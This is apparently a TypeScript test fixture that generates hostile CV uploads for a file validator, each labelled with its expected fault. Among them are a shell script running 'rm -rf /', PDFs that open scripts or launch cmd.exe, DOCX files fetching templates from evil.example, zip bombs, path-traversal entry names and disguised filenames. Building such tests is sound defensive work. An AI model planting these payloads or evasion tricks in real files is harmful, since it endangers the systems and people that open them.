import type { CvFault } from '../../../contract/cv-faults.ts';
import { cvMaxBytes } from '../../../contract/limits.ts';
import { buildCfb } from './build-cfb.ts';
import { buildZip } from './build-zip.ts';
import {
  buildDoc,
  buildDocx,
  buildPdf,
  contentTypes,
  objectStream,
  relationships,
  wordDocument,
  wordStream,
} from './genuine-cvs.ts';

export interface HostileFile {
  readonly title: string;
  readonly name: string;
  readonly bytes: Buffer;
  readonly fault: CvFault;
}

const program = Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(2048, 0x90)]);
const linuxProgram = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(2048)]);
const gif = Buffer.from(
  'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
  'latin1',
);
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

const externalTemplate = (target: string, mode = 'External') => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});

function pdfs(): HostileFile[] {
  const pdf = buildPdf();
  const zip = buildDocx();
  const file = (title: string, bytes: Buffer, fault: CvFault): HostileFile => ({
    title,
    name: 'cv.pdf',
    bytes,
    fault,
  });
  const javaScript = '<< /S /JavaScript /JS (app.alert(1)) >>';
  return [
    file('a file of no bytes', Buffer.alloc(0), 'empty'),
    file('a PDF cut in half', pdf.subarray(0, pdf.length / 2), 'unreadable'),
    file('a PDF header alone', Buffer.from('%PDF-1.7\n'), 'unreadable'),
    file(
      'a header and a trailer with nothing between',
      Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF'),
      'unreadable',
    ),
    file('a Windows program named .pdf', program, 'wrongType'),
    file('a Linux program named .pdf', linuxProgram, 'wrongType'),
    file('a shell script named .pdf', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'wrongType'),
    file('an HTML page named .pdf', Buffer.from('<!doctype html><script>alert(1)</script>'), 'wrongType'),
    file('a DOCX named .pdf', zip, 'wrongType'),
    file('a GIF that is also a PDF', Buffer.concat([gif, pdf]), 'wrongType'),
    file('a program that is also a PDF', Buffer.concat([program.subarray(0, 512), pdf]), 'wrongType'),
    file('a PDF with a zip behind it', Buffer.concat([pdf, zip]), 'unreadable'),
    file(
      'a PDF that is also a zip, the trailer in its comment',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n1 0 obj\n<</Root 1 0 R>>\n'),
        buildZip([{ name: 'a.exe', content: program }], '\nstartxref\n0\n%%EOF'),
      ]),
      'unreadable',
    ),
    file('a PDF with a program behind it', Buffer.concat([pdf, program]), 'unreadable'),
    file('an encrypted PDF', buildPdf({ trailer: '/Encrypt 5 0 R' }), 'locked'),
    file(
      'an encrypted PDF with its dictionary in place',
      buildPdf({ trailer: '/Encrypt << /Filter /Standard >>' }),
      'locked',
    ),
    file('an encrypted PDF with the name disguised', buildPdf({ trailer: '/#45ncr#79pt 5 0 R' }), 'locked'),
    file(
      'an encrypted PDF with a comment in between',
      buildPdf({ trailer: '/Encrypt % nothing\n 5 0 R' }),
      'locked',
    ),
    file('a PDF that runs a script on opening', buildPdf({ catalog: `/OpenAction ${javaScript}` }), 'active'),
    file(
      'a PDF with its script’s name disguised',
      buildPdf({ catalog: '/OpenAction << /S /J#61vaScript /JS (x) >>' }),
      'active',
    ),
    file(
      'a PDF with a script in its table of names',
      buildPdf({ catalog: '/Names << /JavaScript 5 0 R >>' }),
      'active',
    ),
    file(
      'a PDF that launches a program',
      buildPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
      'active',
    ),
    file(
      'a PDF with its script in a compressed stream',
      buildPdf({ extraObjects: [objectStream(`1 0 ${javaScript}`)] }),
      'active',
    ),
    file(
      'a PDF with a chain of filters on its objects',
      buildPdf({ extraObjects: [objectStream('1 0 <<>>', '[/ASCIIHexDecode /FlateDecode]')] }),
      'unreadable',
    ),
    file(
      'a PDF with a bomb in a compressed stream',
      buildPdf({ extraObjects: [objectStream(' '.repeat(20_000_000))] }),
      'unreadable',
    ),
    file(
      'a PDF of 6 MB',
      Buffer.concat([pdf, Buffer.alloc(cvMaxBytes + 1024 * 1024 - pdf.length, ' ')]),
      'tooLarge',
    ),
  ];
}

function docxs(): HostileFile[] {
  const file = (title: string, bytes: Buffer, fault: CvFault): HostileFile => ({
    title,
    name: 'cv.docx',
    bytes,
    fault,
  });
  const docx = buildDocx();
  const zeroes = Buffer.alloc(60 * 1024 * 1024);
  const tail = docx.subarray(0, docx.length - 22);
  return [
    file('a DOCX cut short', tail, 'unreadable'),
    file('a program named .docx', program, 'wrongType'),
    file('a PDF named .docx', buildPdf(), 'wrongType'),
    file('any zip named .docx', buildZip([{ name: 'readme.txt', content: 'hello' }]), 'wrongType'),
    file('a workbook named .docx', buildZip([contentTypes(sheetType), wordDocument]), 'wrongType'),
    file('a DOCX with something before it', Buffer.concat([gif, docx]), 'wrongType'),
    file('a DOCX with something behind it', Buffer.concat([docx, program]), 'unreadable'),
    file(
      'a DOCX that is also a PDF',
      buildZip([{ name: 'a.txt', content: buildPdf(), stored: true }, contentTypes(), wordDocument]),
      'unreadable',
    ),
    file('a DOCM named .docx', buildZip([contentTypes(macroType), wordDocument]), 'active'),
    file('a DOCX with a macro project', buildDocx({ name: 'word/vbaProject.bin', content: 'x' }), 'active'),
    file(
      'a DOCX with a macro project in odd case',
      buildDocx({ name: 'word/VBAPROJECT.BIN', content: 'x' }),
      'active',
    ),
    file('a DOCX with a control', buildDocx({ name: 'word/activeX/activeX1.xml', content: 'x' }), 'active'),
    file(
      'a DOCX with a packed object',
      buildDocx({ name: 'word/embeddings/oleObject1.bin', content: 'x' }),
      'active',
    ),
    file(
      'a DOCX with a program inside',
      buildDocx({ name: 'word/media/run.exe', content: program }),
      'active',
    ),
    file(
      'a DOCX that fetches its template',
      buildDocx(externalTemplate('https://evil.example/t.dotm')),
      'active',
    ),
    file(
      'a DOCX that fetches its template in disguise',
      buildDocx(externalTemplate('h&#116;tps://evil.example/t', 'E&#x78;ternal')),
      'active',
    ),
    file(
      'a DOCX with an encrypted entry',
      buildZip([{ ...contentTypes(), flags: 1 }, wordDocument]),
      'locked',
    ),
    file(
      'a DOCX with a password',
      buildCfb([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }]),
      'locked',
    ),
    file(
      'a zip bomb that says its size',
      buildDocx({ name: 'word/a.xml', content: zeroes }, { name: 'word/b.xml', content: zeroes }),
      'unreadable',
    ),
    file(
      'a zip bomb that lies about its size',
      buildDocx({ name: 'word/a.xml', content: zeroes, declaredSize: 100 }),
      'unreadable',
    ),
    file(
      'a zip bomb of shared bytes',
      buildZip([
        contentTypes(),
        wordDocument,
        { ...relationships, name: 'a' },
        { ...relationships, name: 'a', sameBytesAs: 2 },
      ]),
      'unreadable',
    ),
    file('a zip bomb of overlapping entries', overlapping(), 'unreadable'),
    file(
      'a DOCX that climbs out of its folder',
      buildDocx({ name: '../../etc/cron.d/x', content: 'x' }),
      'unreadable',
    ),
    file('a DOCX with an absolute path', buildDocx({ name: '/etc/passwd', content: 'x' }), 'unreadable'),
    file('a DOCX with a Windows path', buildDocx({ name: 'C:\\Windows\\x.xml', content: 'x' }), 'unreadable'),
    file('a DOCX with a NUL in a name', buildDocx({ name: 'word/a\0.xml', content: 'x' }), 'unreadable'),
    file(
      'a DOCX with an unknown compression',
      buildDocx({ name: 'word/a.xml', content: 'x', method: 99 }),
      'unreadable',
    ),
    file('a DOCX with two documents of one name', buildDocx(wordDocument), 'unreadable'),
    file(
      'a DOCX with 3000 entries',
      buildDocx(...Array.from({ length: 3000 }, (_, i) => ({ name: `word/${i}.xml`, content: '' }))),
      'unreadable',
    ),
    file(
      'a DOCX whose document is no document',
      buildZip([contentTypes(), { name: 'word/document.xml', content: 'hello' }]),
      'unreadable',
    ),
  ];
}

/** Two entries of different names whose local headers overlap: the second starts inside the first one's data. */
function overlapping(): Buffer {
  const inner = buildZip([{ name: 'b', content: 'inner', stored: true }]);
  const file = buildZip([
    { name: 'a', content: inner.subarray(0, inner.length), stored: true },
    contentTypes(),
    wordDocument,
    { name: 'b', content: 'inner', stored: true },
  ]);
  const lastEntry = file.lastIndexOf(Buffer.from('PK\x01\x02'));
  file.writeUInt32LE(31, lastEntry + 42);
  return file;
}

function docs(): HostileFile[] {
  const file = (title: string, bytes: Buffer, fault: CvFault): HostileFile => ({
    title,
    name: 'cv.doc',
    bytes,
    fault,
  });
  const doc = buildDoc();
  return [
    file('a DOC cut in half', doc.subarray(0, doc.length / 2), 'unreadable'),
    file('an OLE signature alone', doc.subarray(0, 8), 'unreadable'),
    file('a program named .doc', program, 'wrongType'),
    file('a DOCX named .doc', buildDocx(), 'wrongType'),
    file('rich text named .doc', Buffer.from('{\\rtf1 \\object\\objocx}'), 'wrongType'),
    file('an XLS named .doc', buildCfb([{ name: 'Workbook' }]), 'wrongType'),
    file(
      'a DOC with macros',
      buildDoc({ name: 'Macros', kind: 'storage' }, { name: 'VBA', kind: 'storage' }),
      'active',
    ),
    file('a DOC with a hidden macro project', buildDoc({ name: '_VBA_PROJECT' }), 'active'),
    file('a DOC with a packed program', buildDoc({ name: '\u0001Ole10Native', content: program }), 'active'),
    file('an encrypted DOC', buildCfb([wordStream(0x0100), { name: '1Table' }]), 'locked'),
    file('a DOC with an encrypted package', buildDoc({ name: 'EncryptedPackage' }), 'locked'),
    file('a DOC that is no Word document inside', buildCfb([{ name: 'WordDocument' }]), 'unreadable'),
    file('a DOC with a zip behind it', Buffer.concat([doc, buildDocx()]), 'unreadable'),
  ];
}

/** Every file an applicant might send that must not be kept as clean, with what they are told. */
export const hostileFiles = (): HostileFile[] => [
  ...pdfs(),
  ...docxs(),
  ...docs(),
  { title: 'a program named .exe', name: 'cv.exe', bytes: program, fault: 'wrongType' },
  { title: 'a program behind a second extension', name: 'cv.pdf.exe', bytes: buildPdf(), fault: 'wrongType' },
  { title: 'a program behind a NUL', name: 'cv.exe\0.pdf', bytes: program, fault: 'wrongType' },
  { title: 'a name that reads backwards', name: 'cv\u202Efdp.exe', bytes: program, fault: 'wrongType' },
  { title: 'a file without an extension', name: 'cv', bytes: buildPdf(), fault: 'wrongType' },
  { title: 'a program in a folder above', name: '../../bin/cv.pdf', bytes: program, fault: 'wrongType' },
];
